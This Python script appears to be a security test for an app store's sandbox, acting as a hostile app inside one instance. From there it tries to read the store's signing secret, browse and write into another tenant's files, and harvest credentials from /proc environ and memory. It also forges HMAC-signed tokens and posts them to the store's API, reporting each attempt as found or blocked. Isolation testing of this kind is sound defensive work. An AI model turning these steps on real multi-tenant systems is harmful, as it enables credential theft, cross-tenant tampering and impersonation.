"""What a hostile app tries on the local runtime, from inside its instance. Each attempt prints one line:
HOSTILE FOUND <what>: ... when it got something, HOSTILE BLOCKED <what>: ... when it did not. The targets (the store's
data directory, the store's URL, another instance and its launcher's pid) come from targets.json beside this file."""
import base64
import hashlib
import hmac
import json
import os
import urllib.error
import urllib.request


def found(what, detail):
    print("HOSTILE FOUND %s: %s" % (what, str(detail)[:300]), flush=True)


def blocked(what, why):
    print("HOSTILE BLOCKED %s: %s" % (what, str(why)[:300]), flush=True)


def read(what, path):
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 20)
        found(what, "%s %r" % (path, data[:60]))
        return data
    except Exception as e:
        blocked(what, e)
        return None


def quiet_read(path):
    try:
        with open(path, "rb") as f:
            return f.read(1 << 20)
    except Exception:
        return None


def listing(what, path, own=()):
    """Found: anything in the folder but the way down to the app's own folders (which the sandbox has to show)."""
    try:
        names = sorted(set(os.listdir(path)) - set(own))
        if names:
            found(what, "%s: %s" % (path, ", ".join(names[:30])))
        else:
            blocked(what, "%s shows only the way to the instance's own folders" % path)
    except Exception as e:
        blocked(what, e)


def credential(secret, instance_id):
    """A credential as the store makes them, signed with whatever key was found (a random one when none was)."""
    body = "wsi1.%s.%d" % (instance_id, 4102444800)  # valid until 2100
    mac = hmac.new(secret, body.encode(), hashlib.sha256).digest()
    return body + "." + base64.urlsafe_b64encode(mac).decode().rstrip("=")


def post_progress(what, url, token):
    report = json.dumps({"step": "STARTING_APP", "state": "running", "message": "forged", "sequence": 1}).encode()
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = "Bearer " + token
    call(what, urllib.request.Request(url, data=report, headers=headers, method="POST"))


def call(what, request):
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            found(what, "HTTP %d" % response.status)
    except urllib.error.HTTPError as e:
        blocked(what, "HTTP %d" % e.code)
    except Exception as e:
        blocked(what, e)


def run(targets):
    data = targets["dataDir"]
    victim = targets["victim"]
    own = os.environ.get("H2O_WAVE_BASE_URL", "/instance/unknown/").strip("/").split("/")[-1]
    own_dir = os.path.join(data, "instances", own)
    secret = read("secret", os.path.join(data, "instance-credential.secret"))
    listing("data-dir", data, ["instances"])
    listing("instances", os.path.join(data, "instances"), [own])
    listing("blobs", os.path.join(data, "blobs"))
    read("victim-record", os.path.join(data, "instances", victim, "record.json"))
    read("victim-log", os.path.join(data, "instances", victim, "launcher.log"))
    listing("victim-app", os.path.join(data, "instances", victim, "app"))
    read("own-record", os.path.join(own_dir, "record.json"))
    read("own-log", os.path.join(own_dir, "launcher.log"))
    try:
        with open(os.path.join(data, "instances", victim, "app", "pwned"), "w") as f:
            f.write("pwned")
        found("victim-write", "wrote into the other instance's app")
    except Exception as e:
        blocked("victim-write", e)

    leaked = [k for k, v in os.environ.items() if k.startswith("WAVESTORE_") or "wsi1." in v]
    if leaked:
        found("environment", ", ".join(leaked))
    else:
        blocked("environment", "no WAVESTORE_ variable and no credential among %d variables" % len(os.environ))

    # Every process it can see, and the launchers' pids it was told: their environment holds an instance's credential.
    launchers = [str(p) for p in targets["launcherPids"]]
    for pid in sorted(set([p for p in os.listdir("/proc") if p.isdigit()] + launchers), key=int):
        if pid == str(os.getpid()):
            continue
        environ = quiet_read("/proc/%s/environ" % pid)
        cmdline = quiet_read("/proc/%s/cmdline" % pid) or b""
        launcher = pid in launchers or b"io.wavestore" in cmdline
        if environ is not None and (b"WAVESTORE_" in environ or b"wsi1." in environ):
            found("credential-in-proc", "pid %s %r" % (pid, cmdline[:80]))
        elif launcher and (environ is not None or cmdline):
            found("launcher-visible", "pid %s %r" % (pid, cmdline[:80]))
        else:
            blocked("proc-" + pid, "no credential" if environ is not None else "environment unreadable or absent")
        if launcher:
            try:
                # Opening it takes the right to ptrace the process: reading its memory is a seek away.
                with open("/proc/%s/mem" % pid, "rb"):
                    found("launcher-mem", pid)
            except Exception as e:
                blocked("launcher-mem-" + pid, e)

    store = targets["storeUrl"] + "/api/v1/instances/"
    key = secret.strip() if secret else os.urandom(48)
    for target in (own, victim):
        post_progress("progress-without-credential-" + target, store + target + "/progress", None)
        post_progress("progress-with-minted-credential-" + target, store + target + "/progress", credential(key, target))
    call("bundle-with-minted-credential", urllib.request.Request(store + victim + "/bundle",
                                                                  headers={"Authorization": "Bearer " + credential(key, victim)}))
    call("renewal-with-minted-credential", urllib.request.Request(store + victim + "/credential", data=b"", method="POST",
                                                                   headers={"Authorization": "Bearer " + credential(key, victim)}))
    print("HOSTILE DONE", flush=True)


with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "targets.json")) as f:
    run(json.load(f))
